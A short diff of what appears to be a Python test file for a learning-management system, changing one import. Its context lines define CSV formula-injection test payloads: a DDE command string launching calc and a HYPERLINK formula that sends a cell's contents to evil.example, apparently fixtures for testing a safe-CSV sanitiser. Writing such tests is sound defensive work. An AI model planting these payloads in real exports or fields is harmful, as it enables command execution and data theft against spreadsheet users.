@@ -17,8 +17,8 @@ from mirco_lms.cli import main
 from mirco_lms.lrs import service
 from mirco_lms.lrs.store import SqlStore, open_store
 from mirco_lms.lrs.store.registry import Learner, upsert_learners
-from mirco_lms.reports import profile as p
 from mirco_lms.safe_csv import FORMULA_STARTS
+from mirco_lms.xapi import profile as p
 
 HOSTILE_NAME = "=cmd|' /C calc'!A0"
 HOSTILE_INSTITUTION = '=HYPERLINK("https://evil.example/?"&A1,"click")'
